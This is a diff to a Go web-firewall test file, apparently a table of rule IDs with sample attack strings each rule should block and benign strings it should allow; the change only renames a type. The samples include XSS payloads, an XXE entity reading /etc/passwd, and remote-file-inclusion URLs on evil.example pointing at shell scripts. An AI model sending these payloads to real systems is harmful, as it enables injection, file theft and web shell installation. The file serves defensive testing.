@@ -1,14 +1,14 @@
 package waf
 
 func init() {
-	mendedRules = append(mendedRules, values{
+	mendedRules = append(mendedRules, texts{
 		941100,
 		[]string{
 			"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", `<p style="x">`, `<?xml-stylesheet type="text/xsl" href="//evil.example/x.xsl"?>`,
 			`<?xml-stylesheet type="text/xsl" href="x.xsl"?><script>`, `<?xml-stylesheet type="text/xsl" href="javascript:x"?>`, `<a href="javascript:alert(1)">`, "<svg onload=x>",
 		},
 		[]string{`<?xml-stylesheet type="text/xsl" href="vhitg-cda-v3.xsl"?>`, `<?xml-stylesheet type="text/xsl" href="cda.xslt" ?>`},
-	}, values{
+	}, texts{
 		941130,
 		[]string{
 			`<svg xlink:href=x>`, `<a xmlns="x">`, "text/html,application/xhtml+xml xlink:href=x", `<!ENTITY x SYSTEM "file:///etc/passwd">`, "x data:text/html,y",
@@ -20,7 +20,7 @@ func init() {
 			"http://www.w3.org/1999/xhtml", "json: {\"browserInfo\":{\"acceptHeader\":\"text/html,application/xhtml+xml;q=0.9\"}}",
 		},
 	})
-	addedRules = append(addedRules, values{
+	addedRules = append(addedRules, texts{
 		9900190,
 		[]string{
 			"form: page=https://evil.example/shell?", "form: file=http://evil.example/a/b?", "GET /?template=http://evil.example/c99?", "GET /index.php?lang=http://evil.example/x?",
